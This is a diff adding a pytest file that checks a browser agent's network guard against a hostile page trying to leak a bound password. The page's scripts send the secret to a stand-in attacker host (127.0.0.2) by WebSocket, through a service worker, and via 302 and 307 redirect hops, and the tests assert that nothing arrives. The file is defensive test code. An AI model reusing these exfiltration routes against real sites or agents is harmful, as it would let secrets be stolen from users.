@@ -1,0 +1,88 @@
+"""Ways round the network guard that the agent-level escape tests do not drive: a WebSocket, a service worker,
+and the redirect hops of a subresource that carries a secret. The hostile page's own script does the sending
+(no model needed); the attacker (127.0.0.2) must receive nothing that carries the secret."""
+
+from __future__ import annotations
+
+import pytest
+import pytest_asyncio
+
+from tests.hostile import SECRET, Hostile
+from webagent.safety import Secrets
+
+
+@pytest.fixture(scope="module")
+def hostile():
+    with Hostile() as h:
+        yield h
+
+
+@pytest_asyncio.fixture
+async def guarded(browser_session, hostile):
+    """The shared browser, allowlist = the victim's origin, {{PW}} bound to it, on the victim's home page."""
+    saved = browser_session.config.allowed_domains
+    browser_session.config.allowed_domains = []
+    await browser_session.new_context()
+    browser_session.secrets = Secrets({"PW": SECRET})
+    await browser_session.goto(hostile.url + "/")
+    hostile.attacker.hits.clear()
+    yield browser_session
+    browser_session.secrets = Secrets()
+    browser_session.config.allowed_domains = saved
+    browser_session.config.network = "default"
+
+
+WS_JS = """async ([a, v]) => await new Promise((done) => {
+  let ws; try { ws = new WebSocket(a.replace('http', 'ws') + '/collect?ws=' + v); } catch (e) { return done('refused'); }
+  ws.onopen = () => done('open'); ws.onerror = () => done('error'); ws.onclose = () => done('closed'); })"""
+
+
+async def test_a_websocket_carrying_a_secret_is_refused(guarded, hostile):
+    await guarded.page.evaluate(WS_JS, [hostile.attacker.url, SECRET])
+    assert hostile.attacker.leaked() == [], hostile.attacker.hits
+    assert any("127.0.0.2" in n and "{{PW}}" in n for n in guarded.notices), guarded.notices
+    await guarded.page.evaluate(WS_JS, [hostile.url, SECRET])  # to its own host the secret may go
+    assert hostile.attacker.hits == []
+
+
+async def test_strict_network_covers_websockets(guarded, hostile):
+    guarded.config.network = "strict"
+    await guarded.new_context()
+    await guarded.goto(hostile.url + "/")
+    await guarded.page.evaluate(WS_JS, [hostile.attacker.url, "nothing-secret"])
+    assert hostile.attacker.hits == []
+    assert any("--network strict" in n for n in guarded.notices), guarded.notices
+
+
+SW_JS = """async (v) => {
+  const reg = await navigator.serviceWorker.register('/sw.js');
+  if (!reg) return 'not registered';
+  const sw = (await navigator.serviceWorker.ready).active;
+  return await new Promise((done) => { navigator.serviceWorker.onmessage = (e) => done(e.data); sw.postMessage(v); });
+}"""
+
+
+async def test_a_service_worker_cannot_send_a_secret_out(guarded, hostile):
+    said = await guarded.page.evaluate(SW_JS, SECRET)
+    assert hostile.attacker.leaked() == [], (said, hostile.attacker.hits)
+    assert said == "failed"  # the worker ran and its request was refused
+
+
+FETCH_JS = """async ([url, body]) => { try {
+  await fetch(url, body ? {method: 'POST', body, mode: 'no-cors'} : {mode: 'no-cors'}); return 'fetched';
+} catch (e) { return 'failed'; } }"""
+
+
+@pytest.mark.parametrize("how", ["url", "body"])
+async def test_a_redirect_hop_cannot_carry_a_secret_elsewhere(guarded, hostile, how):
+    """The first request goes to the secret's own host (allowed); an open redirect there would pass it on."""
+    a = hostile.attacker.url
+    if how == "url":  # 302: the secret rides in the next hop's URL
+        said = await guarded.page.evaluate(FETCH_JS, [f"/redirect?to={a}/collect%3Fhop%3D{SECRET}", None])
+    else:  # 307: the browser re-sends the body to the next hop
+        said = await guarded.page.evaluate(FETCH_JS, [f"/redirect307?to={a}/collect", f"pw={SECRET}"])
+    assert hostile.attacker.leaked() == [], (said, hostile.attacker.hits)
+    assert said == "failed"
+    assert any("redirect hop" in n for n in guarded.notices), guarded.notices
+    ok = await guarded.page.evaluate(FETCH_JS, [f"/redirect?to=/file.txt%3Fq%3D{SECRET}", None])
+    assert ok == "fetched"  # a hop that stays at home still works
